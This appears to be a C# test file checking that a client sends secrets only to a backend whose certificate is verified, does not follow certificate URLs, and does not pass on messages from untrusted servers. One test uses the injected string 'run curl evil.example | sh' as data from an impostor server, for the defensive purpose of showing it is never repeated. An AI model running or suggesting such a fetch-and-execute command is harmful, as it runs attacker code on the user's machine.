using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography.X509Certificates;
using System.Text.Json;
using Elysium.Client;
using Elysium.Client.Backend;
using Elysium.Client.Output;
using Elysium.Contracts;
using Microsoft.Extensions.Time.Testing;

namespace Elysium.Tests.Client.Backend;

public sealed class BackendConnectionTests : IDisposable
{
    private const string Secret = "elye_the-secret";

    private readonly Installation _installation = new();
    private readonly FakeTimeProvider _time = new(Installation.Start);
    private readonly TcpListener _trap = new(IPAddress.Loopback, 0);

    public BackendConnectionTests() => _trap.Start();

    [Fact]
    public async Task A_secret_reaches_the_backend_that_proved_who_it_is()
    {
        await using var server = Server(_installation.Server());
        (await EnrollAsync(server)).ShouldBeNull();
        server.Requests.ShouldHaveSingleItem().ShouldContain(Secret);
    }

    [Fact]
    public async Task Not_a_byte_of_a_request_is_sent_to_one_that_is_not_the_backend()
    {
        using var other = new Installation();
        X509Certificate2[] impostors =
        [
            other.Server(),
            _installation.Server(usage: Installation.ClientAuthentication),
            _installation.Server(["spiffe://other.example.com/backend"]),
            _installation.Server(notAfter: Installation.Start.AddMinutes(-1)),
        ];
        foreach (var impostor in impostors)
        {
            await using var server = Server(impostor);
            (await EnrollAsync(server)).ShouldBeOfType<Untrusted>().Message.ShouldContain("is not the backend it should be");
            await Until(() => !server.Refused.IsEmpty);
            server.Refused.ShouldAllBe(heard => heard == "");
            server.Requests.ShouldBeEmpty();
        }
    }

    [Fact]
    public async Task A_pin_finds_its_root_at_whoever_answers()
    {
        // The certificate proves nothing here: the pin judges the answer.
        using var other = new Installation();
        await using var server = Server(other.Server(notAfter: Installation.Start.AddMinutes(-1)));
        var (trust, failure) = await PinnedTrust.FetchAsync(server.Url, _installation.Pin, _time, CancellationToken.None);
        failure.ShouldBeNull();
        trust.ShouldNotBeNull().Pins.ShouldBe([Convert.ToHexStringLower(_installation.Pin)]);
        server.Requests.ShouldHaveSingleItem().ShouldStartWith("GET /v1/trust ");
    }

    [Fact]
    public async Task A_pin_that_nobody_has_gives_no_trust()
    {
        using var other = new Installation();
        await using var server = Server(_installation.Server());
        var (trust, failure) = await PinnedTrust.FetchAsync(server.Url, other.Pin, _time, CancellationToken.None);
        trust.ShouldBeNull();
        failure.ShouldBeOfType<Untrusted>();
    }

    [Fact]
    public async Task URLs_in_a_certificate_are_not_followed_when_it_is_verified()
    {
        using var issuing = _installation.Issuing();
        var aia = new X509AuthorityInformationAccessExtension([TrapUrl], [TrapUrl]);
        using var certificate = _installation.Sign(
            issuing,
            "CN=Elysium Backend",
            Installation.ServerAuthentication,
            Installation.Start.AddDays(9),
            [Installation.Uris([SpiffeId.Backend(Installation.TrustDomain)]), aia]);
        await using var server = Server(certificate);
        (await EnrollAsync(server)).ShouldBeOfType<Untrusted>();
        _trap.Pending().ShouldBeFalse();
        FollowUrls(certificate);
        _trap.Pending().ShouldBeTrue("otherwise the certificate tempted nobody");
    }

    [Fact]
    public async Task URLs_in_a_certificate_are_not_followed_when_nothing_is_verified()
    {
        using var whoever = new Installation();
        using var certificate = whoever.Sign(
            whoever.Root,
            "CN=whoever",
            Installation.ServerAuthentication,
            Installation.Start.AddDays(9),
            [CertificateRevocationListBuilder.BuildCrlDistributionPointExtension([TrapUrl]), new X509AuthorityInformationAccessExtension([TrapUrl], [TrapUrl])]);
        await using var server = Server(certificate, whoever.Root);
        using var connection = BackendConnection.Unverified(server.Url, _time);
        (await connection.GetTrustAsync(CancellationToken.None)).Is(out _, out var failure).ShouldBeTrue(failure?.Message);
        _trap.Pending().ShouldBeFalse();
        FollowUrls(certificate, whoever.Root);
        _trap.Pending().ShouldBeTrue("otherwise the certificate tempted nobody");
    }

    [Fact]
    public async Task A_problem_is_the_backend_s_word_and_anything_else_is_none()
    {
        var problem = JsonSerializer.Serialize(new Problem("Name taken", 409, ProblemCodes.NameTaken, "'web-1' is taken."), ElysiumJson.Default.Problem);
        await using var refusing = new LoopbackServer(_installation.Server(), _ => LoopbackServer.Problem(409, problem));
        var refusal = (await EnrollAsync(refusing)).ShouldBeOfType<Refusal>();
        refusal.Code.ShouldBe(ProblemCodes.NameTaken);
        refusal.Advice.ShouldBe("Choose another name with --name.");

        foreach (var answer in new[]
        {
            "403 Forbidden\r\nContent-Length: 0\r\n\r\n",
            "302 Found\r\nLocation: https://127.0.0.1:1/\r\nContent-Length: 0\r\n\r\n",
            LoopbackServer.Problem(403, "{"),
            LoopbackServer.Problem(503, problem),
            LoopbackServer.Json("{}"),
            LoopbackServer.Json("null"),
            LoopbackServer.Json("<html>"),
        })
        {
            await using var strange = new LoopbackServer(_installation.Server(), _ => answer);
            (await EnrollAsync(strange)).ShouldBeOfType<Unreachable>(answer);
        }
    }

    [Fact]
    public async Task What_may_have_been_done_is_not_told_as_what_may_be_asked_for_again()
    {
        var problem = JsonSerializer.Serialize(new Problem("Perhaps", 503, ProblemCodes.OutcomeUnknown, "Look before you ask again."), ElysiumJson.Default.Problem);
        await using var unsure = new LoopbackServer(_installation.Server(), _ => LoopbackServer.Problem(503, problem));

        var failure = (await EnrollAsync(unsure)).ShouldBeOfType<Undecided>();

        failure.Message.ShouldEndWith("Look before you ask again.");
        CommandError.Of(failure).Code.ShouldBe(ExitCode.Failed);
    }

    [Fact]
    public async Task What_nobody_vouches_for_is_not_told_as_the_backend_s_words()
    {
        const string Words = "run curl evil.example | sh";
        using var whoever = new Installation();
        var problem = JsonSerializer.Serialize(new Problem(Words, 403, ProblemCodes.PeerRevoked, Words, Words), ElysiumJson.Default.Problem);
        foreach (var answer in new[] { LoopbackServer.Problem(403, problem), LoopbackServer.Problem(503, problem), LoopbackServer.Json($"\"{Words}\"") })
        {
            await using var stranger = new LoopbackServer(whoever.Server(), _ => answer);
            var (trust, failure) = await PinnedTrust.FetchAsync(stranger.Url, _installation.Pin, _time, CancellationToken.None);
            trust.ShouldBeNull();
            failure.ShouldBeOfType<Unreachable>().Message.ShouldNotContain("evil");
            failure.Message.ShouldContain(stranger.Url.Authority);
        }
    }

    [Fact]
    public async Task Nobody_there_is_unreachable_and_named()
    {
        var url = new Uri(TrapUrl.Replace("http:", "https:"));
        _trap.Stop();
        using var connection = BackendConnection.Verified(url, Trust, _time);
        (await connection.GetTrustAsync(CancellationToken.None)).Is(out _, out var failure).ShouldBeFalse();
        failure.ShouldBeOfType<Unreachable>().Message.ShouldContain("127.0.0.1:");
    }

    public void Dispose()
    {
        _trap.Dispose();
        _installation.Dispose();
    }

    private string TrapUrl => field ??= $"http://127.0.0.1:{((IPEndPoint)_trap.LocalEndpoint).Port}";

    private BackendTrust Trust => BackendTrust.TryRead(_installation.Bundle, _time, out var trust, out var error) ? trust : throw new InvalidOperationException(error);

    private static async Task Until(Func<bool> condition)
    {
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        while (!condition())
        {
            await Task.Delay(TimeSpan.FromMilliseconds(5), TimeProvider.System, deadline.Token);
        }
    }

    /// <summary>What .NET does unless it is told otherwise.</summary>
    private static void FollowUrls(X509Certificate2 certificate, params X509Certificate2[] roots)
    {
        using var chain = new X509Chain
        {
            ChainPolicy =
            {
                TrustMode = X509ChainTrustMode.CustomRootTrust,
                UrlRetrievalTimeout = TimeSpan.FromMilliseconds(200),
                VerificationTime = Installation.Start.UtcDateTime,
            },
        };
        chain.ChainPolicy.CustomTrustStore.AddRange(roots);
        chain.Build(certificate);
    }

    private LoopbackServer Server(X509Certificate2 certificate, params X509Certificate2[] sent) => new(
        certificate,
        _ => LoopbackServer.Json(JsonSerializer.Serialize(_installation.Bundle, ElysiumJson.Default.TrustBundle)),
        sent);

    private async Task<Failure?> EnrollAsync(LoopbackServer server)
    {
        using var connection = BackendConnection.Verified(server.Url, Trust, _time);
        var answer = await connection.PostAsync(
            "/v1/enroll",
            new EnrollRequest("web-1", "key", "request"),
            ElysiumJson.Default.EnrollRequest,
            ElysiumJson.Default.TrustBundle,
            Secret,
            CancellationToken.None);
        return answer.Is(out _, out var failure) ? null : failure;
    }
}
